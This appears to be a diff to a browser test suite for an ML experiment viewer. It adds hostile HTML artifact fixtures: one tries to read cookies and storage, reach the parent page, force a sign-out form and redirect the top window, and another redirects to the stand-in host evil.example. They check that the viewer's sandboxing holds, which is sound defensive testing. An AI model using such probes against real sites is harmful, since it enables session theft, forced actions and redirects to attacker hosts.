@@ -11,6 +11,8 @@ from urllib.parse import quote
 from tests.browser.server import Site
 from tests.mlflow_client import Mlflow, good
 
+IID = 26
+"""The run's number in its project."""
 STEPS = 6000
 EVERY = 100
 """Steps between two pictures."""
@@ -46,6 +48,26 @@ document.getElementById("plot").innerHTML = Object.keys(of).map((name) => `<p>${
 for (const name in of) document.getElementById(name).style.width = of[name] * 8 + "px";
 </script>
 """
+HOSTILE = b"""<!doctype html><meta charset="utf-8"><form id="form" method="post" action="/-/sign-out"></form>
+<ul id="said"></ul>
+<script>
+const say = (what) => { said.append(Object.assign(document.createElement("li"), { textContent: what })); };
+const tries = (name, what) => { try { say(`${name}: ${what()}`); } catch (error) { say(`${name}: refused`); } };
+tries("origin", () => self.origin);
+tries("cookie", () => document.cookie);
+tries("storage", () => localStorage.length);
+tries("parent", () => parent.document.title);
+tries("top", () => { top.location = "/team/churn/-/ml/models"; return "asked"; });
+tries("window", () => String(window.open("/")));
+tries("form", () => { form.submit(); return "asked"; });
+const picture = new Image();
+picture.onload = () => say("picture: loaded");
+picture.onerror = () => say("picture: refused");
+picture.src = "/-/assets/favicon.svg";
+fetch("/").then(() => say("fetch: loaded"), () => say("fetch: refused"));
+</script>
+"""
+LEAVING = b"""<!doctype html><h1>Leaving</h1><script>location = "https://evil.example/?what=" + 1;</script>"""
 MARKDOWN = b"""# Defects on steel
 
 What the model sees, and what it misses.
@@ -94,6 +116,8 @@ def files() -> Mapping[str, bytes]:
         "README.md": MARKDOWN,
         "reports/errors.html": HTML,
         "reports/roc.svg": SVG,
+        "hostile/reads.html": HOSTILE,
+        "hostile/leaves.html": LEAVING,
         "reports/line-4.pdf": PDF,
         "predictions.json": json.dumps(table).encode(),
         "config.json": json.dumps({"model": {"depth": 50, "stem": [64, 7, 2]}, "data": {"size": 224}}).encode(),
